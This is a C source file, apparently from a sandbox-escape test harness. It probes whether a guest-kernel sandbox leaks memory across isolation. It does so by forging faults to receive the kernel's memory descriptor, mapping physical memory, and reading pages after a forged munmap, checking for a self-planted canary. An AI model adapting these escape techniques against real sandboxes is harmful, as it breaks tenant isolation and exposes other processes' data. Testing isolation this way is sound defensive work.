/* SPDX-License-Identifier: Apache-2.0 */
/* stub-memory.c - memory that is another process's, or the guest kernel's. */
#include "stub.h"

#include <sys/random.h>
#include <sys/socket.h>
#include <sys/sysinfo.h>
#include <sys/uio.h>
#include <sys/wait.h>

/* Looks for another process's secret in what it mapped of physical memory. */
static void search(const volatile uint64_t *at, unsigned long size)
{
	uint64_t canary = ~out->not_canary;

	escaped("the machine's memory is mapped");
	for (unsigned long i = 0; i < size / 8; i += 64)
		if (at[i] == canary) {
			strcpy(out->why, "another process's memory is in what it mapped");
			return;
		}
}

/*
 * An unpatched kernel sends the descriptor of its memory along with what is to be mapped.
 * So: forge a fault that makes it send one, and receive it ourselves.
 */
static void steal_descriptor(void)
{
	static char byte;
	static union {
		char room[256];
		struct cmsghdr align;
	} ctrl;
	struct iovec v = { &byte, 1 };
	struct msghdr m = { .msg_iov = &v,
		.msg_iovlen = 1,
		.msg_control = &ctrl,
		.msg_controllen = sizeof(ctrl) };
	struct sysinfo machine = { 0 };
	unsigned long size;
	char *fresh = mmap(NULL, 64 * PAGE, PROT_READ | PROT_WRITE,
		MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	int fd;

	memset(&ctrl, 0, sizeof(ctrl));
	byte = 0;
	/* less than there is: behind the end is the end of us, too */
	sysinfo(&machine);
	size = machine.totalram * machine.mem_unit - (40UL << 20);
	/* the tick comes in between at times */
	for (unsigned long i = 0; i < 64; i++) {
		forge_signal(SIGSEGV, 0, (unsigned long)fresh + i * PAGE, NULL);
		forge_stop();
		m.msg_controllen = sizeof(ctrl);
		if (spin_until_let_go() &&
			gadget_call(SYS_recvmsg, ARGS(0, (unsigned long)&m)) == 1 &&
			m.msg_controllen > sizeof(struct cmsghdr))
			break;
		m.msg_controllen = 0;
	}
	if (!m.msg_controllen)
		return;
	memcpy(&fd, CMSG_DATA((struct cmsghdr *)&ctrl), sizeof(fd));
	if (gadget_call(SYS_mmap,
		    ARGS(NOWHERE, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED,
			    (unsigned long)fd, 32UL << 20)) == (long)NOWHERE)
		search((volatile uint64_t *)NOWHERE, size);
}

static void trick_physical_run(void)
{
	out->tried = 1;
	if (gadget() && stock)
		steal_descriptor();
	for (which = 0; which < ncalls && !out->escaped; which++) {
		for (unsigned long fd = 0; fd < 8; fd++) {
			const unsigned long a[6] = { NOWHERE, PAGE,
				PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, fd,
				64UL << 20 };

			host_calls(calls[which], SYS_mmap, a);
			if (can_read(NOWHERE))
				escaped("the machine's memory is mapped, at instruction "
					"%u",
					which);
		}
	}
}

static void keeper_of_secrets(void)
{
	static uint64_t secrets[65536];

	for (unsigned int i = 0; i < 65536; i += 64)
		secrets[i] = ~out->not_canary;
	__asm__ volatile("" ::"r"(secrets) : "memory");
	pause();
}

void trick_physical(void)
{
	uint64_t random;
	pid_t keeper;

	if (getrandom(&random, sizeof(random), 0) != sizeof(random))
		return;
	out->not_canary = random;
	keeper = fork();
	if (keeper == 0) {
		keeper_of_secrets();
		_exit(0);
	}
	usleep(100000);
	child_wait(child(trick_physical_run), 20000);
	kill(keeper, SIGKILL);
	waitpid(keeper, NULL, 0);
}

#define ROUNDS 4000

/*
 * Forges a munmap() and goes on reading what was unmapped, without ever coming in. If the
 * pages are somebody else's by then, their contents show.
 */
static void trick_stale_run(void)
{
	unsigned long size = 32UL << 20, a[3] = { 0, size, 0 };
	uint64_t canary;
	volatile uint64_t *at = mmap(NULL, size, PROT_READ | PROT_WRITE,
		MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);

	if (at == MAP_FAILED)
		return;
	for (unsigned long i = 0; i < size / 8; i += PAGE / 8)
		at[i] = 1;
	a[0] = (unsigned long)at;
	if (sigsetjmp(back, 1))
		_exit(0);
	forge_signal(SIGSYS, SYS_munmap, 0, a);
	forge_stop();
	for (unsigned int round = 0; round < ROUNDS; round++) {
		canary = ~out->not_canary;
		for (unsigned long i = 0; i < size / 8; i += PAGE / 8)
			if (at[i] == canary && canary != ~0UL)
				escaped("another process's memory through a mapping that "
					"was taken away");
		out->beat++;
	}
}

/* Takes what memory becomes free, and fills it with the secret. */
static void writer(void)
{
	for (;;) {
		unsigned long size = 64UL << 20;
		volatile uint64_t *at = mmap(NULL, size, PROT_READ | PROT_WRITE,
			MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

		if (at == MAP_FAILED)
			_exit(1);
		for (unsigned long i = 0; i < size / 8; i += PAGE / 8)
			at[i] = ~out->not_canary;
		munmap((void *)at, size);
	}
}

void trick_stale(void)
{
	pid_t w;

	if (getrandom((void *)&out->not_canary, 8, 0) != 8)
		return;
	w = child(writer);
	for (int i = 0; i < 3 && !out->escaped; i++) {
		out->beat = 0;
		out->forged = 0;
		child_wait(child(trick_stale_run), 10000);
		/* it was still reading when there was nothing to read any more */
		if (out->forged && out->beat < ROUNDS)
			out->tried = 1;
	}
	kill(w, SIGKILL);
	waitpid(w, NULL, 0);
}
